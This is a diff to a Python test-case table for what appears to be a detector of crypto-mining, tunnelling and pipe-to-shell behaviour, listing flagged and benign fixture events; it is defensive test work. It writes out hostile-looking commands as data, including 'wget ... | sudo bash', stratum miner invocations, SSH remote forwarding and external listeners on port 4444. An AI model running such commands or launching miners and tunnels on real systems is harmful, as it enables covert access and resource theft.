@@ -26,6 +26,18 @@ def exec_(exe, *args, comm=None):
     return {"kind": "exec", "proc": proc(exe, *args, comm=comm)}
 
 
+def truncated(exe, *args):
+    r = exec_(exe, *args)
+    r["proc"]["args_truncated"] = True
+    return r
+
+
+def listen(addr, port):
+    return {"kind": "listen", "proc": proc("/usr/bin/python3.11", "python3"),
+            "net": {"proto": "tcp", "family": "ipv6" if ":" in addr else "ipv4",
+                    "local": {"addr": addr, "port": port}, "what": "listen"}}
+
+
 def connect(addr, port, scope, name=None, proto="tcp", verdict="allowed", exe="/usr/bin/python3.11"):
     return {"kind": "connect", "proc": proc(exe, exe), "net": {
         "proto": proto, "family": "ipv6" if ":" in addr else "ipv4", "src": {"addr": "10.42.0.17", "port": 40001},
@@ -110,6 +122,8 @@ CASES = {
     "mining-stratum-args": (
         [exec_("/tmp/kworker", "kworker", "-o", "stratum+tcp://pool.example:3333"),
          exec_("/tmp/x", "x", "--url=STRATUM+SSL://pool.example:443"),
+         exec_("/tmp/x", "x", "-o", "stratum2+tcp:pool.example:3333"),
+         exec_("/bin/sh", "sh", "-c", "./w -o stratum+tls pool.example 443"),
          exec_("/tmp/x", "x", "--donate-level", "1")],
         [exec_("/usr/bin/python3.11", "python3", "-m", "pytest", "tests/test_stratum_parser.py"),
          exec_("/usr/bin/grep", "grep", "-r", "stratum", "docs/")]),
@@ -187,6 +201,59 @@ CASES = {
          exec_("/usr/bin/bash", "bash", "-c", "wget -qO- http://x/i.sh | sudo bash")],
         [exec_("/usr/bin/sh", "sh", "-c", "curl -fsSL -o out.tgz https://x/out.tgz && tar xzf out.tgz"),
          exec_("/usr/bin/bash", "bash", "-c", "cat log | grep shard")]),
+    "tunnel-ssh-config-forwarding": (
+        [dict(exec_("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), proc=dict(proc("/usr/bin/ssh", "ssh", "-F", "cfg", "h"), ssh={
+            "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["config"]})),
+         dict(exec_("/tmp/kw", "kw", "-NoRemoteForward=1 x:2", "h"), proc=dict(proc("/tmp/kw", "kw"), ssh={
+             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["options"]}))],
+        [exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"),
+         dict(exec_("/usr/bin/ssh", "ssh", "-R", "1:x:2", "h"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
+             "host": "h", "forwarding": True, "proxy": False, "tunnel": True, "decided_by": ["flags"]})),
+         dict(exec_("/usr/bin/ssh", "ssh", "git@forge"), proc=dict(proc("/usr/bin/ssh", "ssh"), ssh={
+             "host": "forge", "forwarding": False, "proxy": False, "tunnel": False, "decided_by": []}))]),
+    "tunnel-ssh-proxy-relay": (
+        [dict(connect("198.51.100.7", 8443, "external"), proc=dict(proc("/usr/bin/python3.11", "python3"),
+              relay_of={"pid": 4000, "host": "hidden", "proxy": "python3 tls.py"}))],
+        [connect("198.51.100.7", 8443, "external"),
+         dict(connect("127.0.0.1", 2222, "loopback"), proc=dict(proc("/usr/bin/nc", "nc"), relay_of={"pid": 4000}))]),
+    "mining-pool-tls-sni": (
+        [flow("198.51.100.9", 443, "external", "tls", sni="pool.supportxmr.com"),
+         flow("198.51.100.9", 80, "external", "http", host="xmr-eu1.nanopool.org", method="GET")],
+        [flow("198.51.100.9", 443, "external", "tls", sni="pypi.org"),
+         flow("198.51.100.9", 443, "external", "tls")]),
+    "tunnel-service-domain": (
+        [connect("198.51.100.9", 443, "external", name="abc123.ngrok-free.app"),
+         flow("198.51.100.9", 443, "external", "tls", sni="quiet-fox.trycloudflare.com")],
+        [connect("198.51.100.9", 443, "external", name="ngrok.com.example.org"),
+         flow("198.51.100.9", 443, "external", "tls", sni="github.com")]),
+    "tunnel-service-dns": (
+        [dns("bore.pub"), dns("x1.devtunnels.ms")],
+        [dns("pypi.org"), dns("devtunnels.ms.corp.internal")]),
+    "tunnel-code-tunnel": (
+        [exec_("/usr/bin/code", "code", "tunnel", "--accept-server-license-terms")],
+        [exec_("/usr/bin/code", "code", "src/tunnel.py"), exec_("/usr/bin/code", "code", "--version")]),
+    "tunnel-http-connect-ssh": (
+        [flow("198.51.100.7", 3128, "external", "http", method="CONNECT", tunnel=True,
+              connect_host="203.0.113.10", connect_port=22),
+         flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=22)],
+        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="pypi.org",
+              connect_port=443),
+         flow("198.51.100.7", 80, "external", "http", method="GET", path="/")]),
+    "tunnel-http-connect-external": (
+        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=4444)],
+        [flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="pypi.org",
+              connect_port=443),
+         flow("10.0.0.3", 3128, "internal", "http", method="CONNECT", tunnel=True, connect_host="x", connect_port=22)]),
+    "tunnel-websocket-external": (
+        [flow("198.51.100.7", 80, "external", "http", method="GET", upgrade="WebSocket")],
+        [flow("10.0.0.7", 80, "internal", "http", method="GET", upgrade="websocket"),
+         flow("198.51.100.7", 80, "external", "http", method="GET", upgrade="h2c")]),
+    "tunnel-listen-external": (
+        [listen("0.0.0.0", 4444), listen("::", 4444), listen("10.42.0.17", 8080)],
+        [listen("127.0.0.1", 8000), listen("::1", 8000)]),
+    "exec-args-truncated": (
+        [truncated("/usr/bin/ssh", "ssh", "-o" + "x" * 4080), truncated("/bin/sh", "sh", "-c", ":" + " " * 4090)],
+        [exec_("/bin/sh", "sh", "-c", ":" + " " * 100), truncated("/usr/bin/ld", "ld", *["a.o"] * 1200)]),
 }
 
 
